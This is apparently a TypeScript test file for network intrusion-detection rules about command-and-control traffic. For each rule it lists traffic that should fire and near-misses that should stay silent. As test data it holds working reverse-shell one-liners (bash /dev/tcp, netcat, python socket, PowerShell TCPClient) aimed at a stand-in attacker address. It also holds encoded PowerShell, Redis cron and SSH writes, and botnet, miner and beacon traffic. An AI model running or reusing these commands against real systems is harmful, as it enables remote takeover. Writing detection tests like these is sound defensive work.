/** Tests of rules/command-and-control.rules. */
import { dnsQuery, httpRequest, httpResponse } from '../../support/application-messages.js';
import { concat, hex } from '../../support/packet-builder.js';
import { ATTACKER, CLIENT, connection, datagram, HOST, RESOLVER, web, WEB, type Line, type RuleCase } from './case.js';

const OUTSIDE = '203.0.113.66';
/** A shell on the victim, connected to the attacker, who types. */
const shell = (...lines: Line[]) => connection(CLIENT, `${OUTSIDE}:4444`, ...lines);
const post = (body: string) => web(httpRequest('POST /run', { body }));
const tells = (text: string) => shell(['<', text]);
const says = (text: string) => shell(['>', text]);
const download = (body: string) =>
  connection(
    CLIENT,
    `${OUTSIDE}:80`,
    ['>', httpRequest('GET /a')],
    ['<', httpResponse('200 OK', body, { 'Content-Type': 'application/octet-stream' })],
  );
const irc = (port: number, text: string, answer = '') =>
  connection(CLIENT, `${OUTSIDE}:${port}`, ['>', text], ['<', answer]);
const telnet = (port: number, text: string) => connection(ATTACKER, `${HOST}:${port}`, ['>', text]);
const redis = (text: string) => connection(ATTACKER, `${HOST}:6379`, ['>', text]);

const BASE64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA';
const COOKIE = `${'Q'.repeat(171)}=`;
const beacon = (path: string, cookie: string) =>
  connection(CLIENT, `${OUTSIDE}:80`, [
    '>',
    `GET ${path} HTTP/1.1\r\nAccept: */*\r\nCookie: ${cookie}\r\nUser-Agent: Mozilla/5.0 (compatible; MSIE 9.0)\r\nHost: 203.0.113.66\r\n\r\n`,
  ]);
const wide = (text: string) => [...text].join('\x00') + '\x00';
/** An SMB2 create request, shortened: session header, protocol, then the name. */
const pipe = (name: string) =>
  connection(CLIENT, `${HOST}:445`, ['>', concat(hex('000000a0 fe534d42'), new Uint8Array(112), wide(name))]);
const meterpreter = (method: string) =>
  shell(['<', concat(hex('00000000 00000000'), [0, 0, 0, method.length + 9], hex('00010001'), `${method}\x00`)]);

export const commandAndControlCases: readonly RuleCase[] = [
  {
    sid: 1002001,
    fires: {
      'typed into a form': post('x=bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
      'in an answer': download('#!/bin/bash\nsh >/dev/tcp/203.0.113.66/443\n'),
    },
    silent: {
      'a port check by name': post('x=bash: exec 3<>/dev/tcp/localhost/80'),
      'without a shell': post('see /dev/tcp/10.0.0.1/80'),
    },
  },
  {
    sid: 1002002,
    fires: {
      'in a parameter': web(httpRequest('GET /?x=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.66%2F4444%200%3E%261')),
    },
    silent: { 'a page about it': web(httpRequest('GET /?q=%2Fdev%2Ftcp%2Fhost')) },
  },
  {
    sid: 1002003,
    fires: {
      'first words': says(
        'bash: cannot set terminal process group (812): Inappropriate ioctl\nbash: no job control in this shell\n',
      ),
    },
    silent: {
      'a search from outside': web(httpRequest('POST /search', { body: 'q=bash: no job control in this shell' })),
      'another message': says('bash: x: command not found\n'),
    },
  },
  {
    sid: 1002004,
    fires: {
      typed: tells(`python3 -c 'import pty; pty.spawn("/bin/bash")'\n`),
      'in a request': post(`python -c "import pty;pty.spawn('/bin/sh')"`),
    },
    silent: {
      'another program': tells('import pty; pty.spawn("vim")\n'),
      'without the call': tells('import pty # "/bin/bash"\n'),
    },
  },
  {
    sid: 1002005,
    fires: {
      'in a request': post(
        'import socket,os,subprocess;s=socket.socket();s.connect(("203.0.113.66",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])',
      ),
    },
    silent: {
      'a client program': post('s=socket.socket();s.connect(("www.example",80))'),
      'a daemon': post('os.dup2(null,0);socket.socket();.connect((a,b))'),
    },
  },
  {
    sid: 1002006,
    fires: {
      'short switch': download(`powershell.exe -nop -w hidden -enc ${BASE64}`),
      'long switch': post(`cmd /c PowerShell -EncodedCommand ${BASE64}`),
    },
    silent: {
      'a short value': post('powershell -enc aWQ='),
      'a policy': post(`powershell -ExecutionPolicy Bypass -File ${'a'.repeat(60)}.ps1`),
    },
  },
  {
    sid: 1002007,
    fires: {
      'in a download': download(
        '$c=New-Object System.Net.Sockets.TCPClient("203.0.113.66",443);$s=$c.GetStream();while(1){$r=(iex $d)}',
      ),
    },
    silent: { 'a port check': download('$c=New-Object System.Net.Sockets.TCPClient("host",443);$c.Close()') },
  },
  {
    sid: 1002008,
    fires: {
      'in a parameter': post('h=1;nc 203.0.113.66 4444 -e /bin/sh'),
      'switches together': post('h=1;ncat -ve /bin/bash 203.0.113.66 4444'),
    },
    silent: { 'a port check': post('nc -zv 10.0.0.1 80'), 'another program': post('sync -e /bin/sh') },
  },
  {
    sid: 1002009,
    fires: { netcat: post('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f') },
    silent: {
      'a pipe': post('mkfifo /tmp/f; cat /tmp/f | sort'),
      'a shell to a file': post('mkfifo /tmp/f; /bin/sh x | tee log'),
    },
  },
  {
    sid: 1002010,
    fires: { 'to the attacker': says('uid=0(root) gid=0(root) groups=0(root)\n') },
    silent: {
      'another user': says('uid=33(www-data) gid=33(www-data)\n'),
      'typed by the attacker': tells('uid=0(root) gid=0(root)\n'),
      'within a text': says('it says uid=0(root) gid=0(root)\n'),
    },
  },
  {
    sid: 1002011,
    fires: {
      'from a web shell': connection(
        ATTACKER,
        WEB,
        ['>', httpRequest('GET /x.php?c=1')],
        ['<', httpResponse('200 OK', 'uid=0(root) gid=0(root) groups=0(root)\n')],
      ),
    },
    silent: {
      'a text without the group': connection(
        ATTACKER,
        WEB,
        ['>', httpRequest('GET /')],
        ['<', httpResponse('200 OK', 'uid=0(root) is the superuser')],
      ),
      'sent to the server': web(httpRequest('POST /', { body: 'HTTP/1. uid=0(root) gid=0(root)' })),
    },
  },
  {
    sid: 1002012,
    fires: {
      'first words': says(
        'Microsoft Windows [Version 10.0.17763.1]\r\n(c) 2018 Microsoft Corporation. All rights reserved.\r\n\r\nC:\\>',
      ),
    },
    silent: {
      'a report': says(
        '{"hostname": "web", "os": "the system says that it is", "text": "Microsoft Windows [Version 10]"}',
      ),
      'a download': tells('Microsoft Windows [Version 10.0] (c) Microsoft Corporation'),
    },
  },
  {
    sid: 1002013,
    fires: { 'a beacon': beacon('/ga.js', COOKIE) },
    silent: {
      'a longer cookie': beacon('/ga.js', `Q${COOKIE}`),
      'a named cookie': beacon('/ga.js', `session=${COOKIE}`),
    },
  },
  {
    sid: 1002014,
    fires: {
      'a result': connection(CLIENT, `${OUTSIDE}:80`, [
        '>',
        'POST /submit.php?id=48151 HTTP/1.1\r\nAccept: */*\r\nContent-Type: application/octet-stream\r\nContent-Length: 4\r\n\r\nabcd',
      ]),
    },
    silent: {
      'a form': connection(CLIENT, `${OUTSIDE}:80`, [
        '>',
        'POST /submit.php?id=48151 HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n',
      ]),
      'to this side': web('POST /submit.php?id=x HTTP/1.1\r\nContent-Type: application/octet-stream\r\n\r\n'),
    },
  },
  {
    sid: 1002015,
    fires: { 'a pipe of a beacon': pipe('\\msagent_3f') },
    silent: { 'a pipe of the system': pipe('\\srvsvc'), 'a name like it': pipe('\\msagent_host') },
  },
  {
    sid: 1002016,
    fires: { 'a channel': meterpreter('core_channel_open') },
    silent: { 'another name': meterpreter('core_files_read'), 'a text': tells('core_channel_open\n') },
  },
  {
    sid: 1002017,
    fires: { 'a listing': meterpreter('stdapi_fs_ls') },
    silent: { 'another name': meterpreter('stdapi_other'), 'a text': tells('stdapi_fs_ls\n') },
  },
  {
    sid: 1002018,
    fires: { 'on a web port': irc(443, 'NICK [DE]x86-4711\r\nUSER bot 0 * :bot\r\n') },
    silent: {
      'on its own port': irc(6667, 'NICK anna\r\nUSER anna 0 * :Anna\r\n'),
      'no user': irc(443, 'NICK anna\r\nPASS x\r\n'),
    },
  },
  {
    sid: 1002019,
    fires: { 'an attack': irc(6667, 'NICK x\r\n', ':boss!b@h PRIVMSG #cmd :!udpflood 198.51.100.9 53 60\r\n') },
    silent: { 'people who talk': irc(6667, 'NICK x\r\n', ':anna!a@h PRIVMSG #node :the download is broken\r\n') },
  },
  {
    sid: 1002020,
    fires: { 'a miner': says('{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}\n') },
    silent: {
      'the pool': tells('{"id":1,"method":"mining.notify","params":[]}\n'),
      'another method': says('{"method":"mining.status","params":[]}\n'),
    },
  },
  {
    sid: 1002021,
    fires: {
      'a miner': says(
        '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4A","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64)"}}\n',
      ),
    },
    silent: {
      'another agent': says('{"method":"login","params":{"login":"4A","agent":"app/1"}}\n'),
      'a download of it': web(httpRequest('GET /xmrig/XMRig/6.21')),
    },
  },
  {
    sid: 1002022,
    fires: { 'a client': says('GET / HTTP/1.1\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n') },
    silent: {
      'another protocol': says('GET / HTTP/1.1\r\nUpgrade: websocket\r\nSec-WebSocket-Protocol: chat\r\n\r\n'),
    },
  },
  {
    sid: 1002023,
    fires: { 'an applet that cannot be': telnet(23, '/bin/busybox MIRAI\r\n') },
    silent: {
      'one that is': telnet(23, '/bin/busybox tftp -g\r\n'),
      'another port': telnet(8023, '/bin/busybox MIRAI\r\n'),
    },
  },
  {
    sid: 1002024,
    fires: { 'a program': download('\x7fELF\x02\x01\x01') },
    silent: { 'an archive': download('\x1f\x8b\x08 \x7fELF'), 'a text': download('text about \x7fELF') },
  },
  {
    sid: 1002025,
    fires: {
      'as one line': redis('CONFIG SET dir /var/spool/cron\r\n'),
      'as a client sends': redis('*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n'),
    },
    silent: {
      'its own directory': redis('CONFIG SET dir /var/lib/redis\r\n'),
      'only asked': redis('CONFIG GET dir\r\n'),
    },
  },
  {
    sid: 1002026,
    fires: { 'the first block': datagram(CLIENT, RESOLVER, dnsQuery('aaa.stage.12345.c2.example', { type: 16 })) },
    silent: {
      'a name like it': datagram(CLIENT, RESOLVER, dnsQuery('aab.stage.example', { type: 16 })),
      'further down': datagram(CLIENT, RESOLVER, dnsQuery('www.aaa.stage.example')),
    },
  },
];
